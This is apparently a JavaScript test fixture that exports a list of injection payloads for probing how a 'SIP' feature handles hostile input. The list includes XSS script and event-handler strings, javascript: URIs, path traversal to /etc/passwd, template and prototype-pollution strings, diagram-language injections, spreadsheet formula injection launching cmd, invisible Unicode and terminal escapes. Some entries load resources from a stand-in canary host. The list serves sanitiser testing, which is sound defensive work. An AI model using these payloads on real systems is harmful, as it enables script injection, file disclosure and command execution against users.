// What an attacker would write into SIP: markup, scripts, references, templates, picture languages, terminals, invisible characters.
const CALL = "__canary()";
const HOST = "http://canary.invalid";

const MARKUP = [
  `<script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=${HOST}/x.js></script>`,
  `<script/src=data:,${CALL}></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${CALL}`,
  `＜script＞${CALL}＜/script＞`,
];

const TAGS = "img svg body video audio iframe object embed input details marquee math form button select style link base meta".split(" ");
const EVENTS = TAGS.flatMap((tag) => [
  `<${tag} src=x onerror=${CALL} onload=${CALL} onfocus=${CALL} autofocus ontoggle=${CALL} open>`,
  `"><${tag} href=javascript:${CALL} data=javascript:${CALL} src=${HOST}/${tag}>`,
]);

const ATTRIBUTES = ["onmouseover", "onfocus", "onload", "onerror", "onanimationstart", "onpointerenter", "style", "href", "xlink:href", "srcdoc"].flatMap(
  (name) => [`" ${name}=${CALL} x="`, `' ${name}='${CALL}' x='`],
);

const REFERENCES = [
  `javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:${CALL}`,
  `${HOST}/x.png`,
  `//canary.invalid/x`,
  `url(${HOST}/x.css)`,
  `@import '${HOST}/x.css'`,
  `file:///etc/passwd`,
  `../../../../etc/passwd`,
];

const TEMPLATES = [
  "{{7*7}}",
  "${7*7}",
  "#{7*7}",
  "<%= 7*7 %>",
  `\${${CALL}}`,
  `\`;${CALL};//`,
  `';${CALL};//`,
  `");${CALL};//`,
  `{{constructor.constructor('${CALL}')()}}`,
  "__proto__",
  "constructor",
  "%s%n%x%d",
  "$&$1$$",
  "lit$123$",
  "<!--?lit$123$-->",
  "?lit$0$",
];

const PICTURES = [
  `<svg><animate onbegin=${CALL} attributeName=x>`,
  `<svg><foreignObject><iframe src=${HOST}>`,
  `<svg><use href=${HOST}/x.svg#a>`,
  `<svg><image href=${HOST}/x.png>`,
  `!include ${HOST}/x.puml`,
  "!includeurl file:///etc/passwd",
  "%load_json('file:///etc/passwd')",
  "@enduml",
  "<img:http://canary.invalid/x.png>",
  `[[javascript:${CALL} press]]`,
  `[[${HOST}]]`,
  "%%{init: {'securityLevel': 'loose'}}%%",
  `click A call ${CALL}`,
  "A->>B: #quot;<b>x</b>",
  "end",
  "<$icon> <&key> <:smile:> ~~x~~ **b**",
];

const TABLES = [`=cmd|'/c calc'!A0`, `@SUM(1+1)`, `+1+cmd|'x'`, `-2+3`, `=HYPERLINK("${HOST}","x")`];

const INVISIBLE = [0x202e, 0x202d, 0x202a, 0x202b, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad]
  .concat([0x034f, 0x061c, 0x115f, 0x180e, 0x3164, 0xffa0, 0xe0041, 0xfe0f, 0x2028, 0x2029, 0x0085, 0x2800, 0xe000, 0xfdd0])
  .map((code) => `ev${String.fromCodePoint(code)}il`);

const CONTROLS = [0x01, 0x07, 0x08, 0x0b, 0x0c, 0x0e, 0x1a, 0x1b, 0x1f, 0x7f, 0x9b].map((code) => `co${String.fromCodePoint(code)}ntrol`);

const TERMINAL = ["\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u001b[2J\u001b[H", "\u001b]8;;http://canary.invalid\u0007x\u001b]8;;\u0007", "\u009b31m"];

const SHAPES = ["а1іce", "a" + "\u0301".repeat(60), "﷽".repeat(20), "x".repeat(2000), "W".repeat(300), "日本語".repeat(50), "עברית ערבית", "العربية 123 abc", "👩‍👩‍👧‍👦🇩🇪"];

export const PAYLOADS = [
  ...MARKUP,
  ...EVENTS,
  ...ATTRIBUTES,
  ...REFERENCES,
  ...TEMPLATES,
  ...PICTURES,
  ...TABLES,
  ...INVISIBLE,
  ...CONTROLS,
  ...TERMINAL,
  ...SHAPES,
];
